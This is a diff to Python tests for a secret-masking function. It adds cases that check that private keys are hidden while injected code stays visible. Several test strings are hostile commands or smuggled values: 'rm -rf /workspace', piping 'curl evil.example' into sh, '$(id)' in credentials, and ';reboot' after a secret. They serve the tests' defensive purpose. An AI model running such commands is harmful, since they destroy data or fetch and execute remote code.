@@ -13,6 +13,8 @@ from sympozium.masking import MASK, mask, mask_text
         ("AKIAABCDEFGHIJKLMNOP", "AKIA"),
         ("eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.sig-nature", "eyJ"),
         ("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----", "abc"),
+        ("-----BEGIN PRIVATE KEY-----\n" + "QUJDREVGR0hJSktM" * 4, "QUJDREVGR0hJSktM"),
+        ("-----BEGIN PRIVATE KEY-----\\nQUJDREVGR0hJSktM\\n-----END PRIVATE KEY-----", "QUJDREVGR0hJSktM"),
         ("curl -H 'Authorization: Bearer abcdef0123456789'", "abcdef0123456789"),
         ("postgres://user:hunter22@db:5432/x", "hunter22"),
         ("export DB_PASSWORD=hunter22; echo", "hunter22"),
@@ -41,10 +43,22 @@ def test_hidden(text: str, hidden: str) -> None:
         "up --token-auth-file users.csv --port 0",
         "kubectl create token --duration 1h",
         "ls -u a",
+        # Code is no secret, and must not hide behind one.
+        "deploy --password $(rm -rf /workspace)",
+        "token=$(cat /workspace/x)",
+        "api_key=`id`",
+        "kubectl create secret generic db --from-literal=pin=1;reboot",
+        "curl -u admin:$(id) http://x",
+        "tool --token a|sh",
     ],
 )
 def test_readable(text: str) -> None:
     assert mask_text(text) == text
+
+
+def test_nothing_vanishes_behind_the_head_of_a_key() -> None:
+    for rest in ("'; curl evil.example | sh", "\nrm -rf /workspace; curl http://evil.example/x"):
+        assert rest in mask_text(f"echo '-----BEGIN PRIVATE KEY-----{rest}")
 
 
 def test_keys_that_name_a_secret_hide_their_value() -> None:
